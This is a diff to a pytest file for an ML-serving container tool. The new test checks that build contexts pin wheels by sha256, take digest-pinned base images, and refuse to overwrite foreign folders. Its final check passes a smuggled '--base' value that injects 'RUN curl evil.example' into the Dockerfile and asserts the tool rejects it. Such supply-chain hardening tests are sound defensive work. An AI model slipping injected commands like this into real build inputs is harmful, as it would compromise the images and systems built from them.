@@ -54,7 +54,8 @@ def test_the_image_serves_the_onnx_model_as_a_non_root_user(project, buildah, tm
     context = tmp_path / 'context'
     r = mlops(project['root'], 'serve', 'iris', '--dockerfile', str(context))
     assert r.returncode == 0, r.stderr
-    assert sorted(p.name for p in context.iterdir()) == ['Dockerfile', 'app', 'model', 'requirements.txt', 'wheels']
+    assert sorted(p.name for p in context.iterdir()) == ['.mlops-nb-context', 'Dockerfile', 'app', 'model', 'requirements.txt',
+                                                       'wheels']
     assert sorted(p.name for p in (context / 'model').iterdir()) == ['model.onnx', 'serving.json']
     built = buildah('bud', '--isolation', 'chroot', '--format', 'docker', '--build-arg', 'BASE=localhost/debian-python:bookworm',
                     '-t', 'localhost/iris-serve', str(context))
@@ -118,3 +119,35 @@ def test_a_bundle_without_a_token_refuses_to_start_and_a_failed_build_context_le
     assert failed.returncode == 1 and "could not download the server's wheels" in failed.stderr, failed.stderr
     assert len(failed.stderr.strip().splitlines()) == 1
     assert sorted(p.name for p in tmp_path.iterdir()) == ['context']  # no half-written folder, no temporary left
+
+
+def test_the_build_context_replaces_only_its_own_folder_pins_every_wheel_by_hash_and_takes_a_digest(project, tmp_path):
+    """`--dockerfile .` (or any folder it did not write) is refused and left as it was; every wheel of the context,
+    the server's dependencies' dependencies too, is pinned by sha256 and installed with --require-hashes; a base image
+    may be pinned by digest, and a base that is not an image name is refused."""
+    import hashlib
+    root = project['root']
+    before = sorted(p.name for p in root.iterdir())
+    r = mlops(root, 'serve', 'iris', '--dockerfile', str(root))         # what `--dockerfile .` in the project names
+    assert r.returncode == 1 and 'not a build context mlops-nb wrote' in r.stderr, r.stderr
+    (tmp_path / 'mine').mkdir()
+    (tmp_path / 'mine' / 'notes.txt').write_text('keep me')
+    assert mlops(root, 'serve', 'iris', '--dockerfile', str(tmp_path / 'mine')).returncode == 1
+    assert sorted(p.name for p in root.iterdir()) == before and (tmp_path / 'mine' / 'notes.txt').read_text() == 'keep me'
+    digest = 'localhost/debian-python@sha256:' + 'ab' * 32
+    context = tmp_path / 'context'
+    assert mlops(root, 'serve', 'iris', '--dockerfile', str(context), '--base', digest).returncode == 0
+    assert mlops(root, 'serve', 'iris', '--dockerfile', str(context), '--base', digest).returncode == 0  # its own: replaced
+    import re
+    norm = lambda name: re.sub(r'[-_.]+', '-', name).lower()
+    wheels = {(norm(w.name.split('-')[0]), w.name.split('-')[1]): w for w in (context / 'wheels').glob('*.whl')}
+    lines = (context / 'requirements.txt').read_text().splitlines()
+    assert len(lines) == len(wheels) > 7 and any(line.startswith('starlette==') for line in lines)   # transitive too
+    for line in lines:
+        pin, _, sha = line.partition(' --hash=sha256:')
+        name, _, version = pin.partition('==')
+        assert hashlib.sha256(wheels[norm(name), version].read_bytes()).hexdigest() == sha, line
+    dockerfile = (context / 'Dockerfile').read_text()
+    assert '--require-hashes' in dockerfile and f'ARG BASE={digest}' in dockerfile
+    bad = mlops(root, 'serve', 'iris', '--dockerfile', str(tmp_path / 'x'), '--base', 'python:3.11\nRUN curl evil.example')
+    assert bad.returncode == 1 and '--base' in bad.stderr and not (tmp_path / 'x').exists()
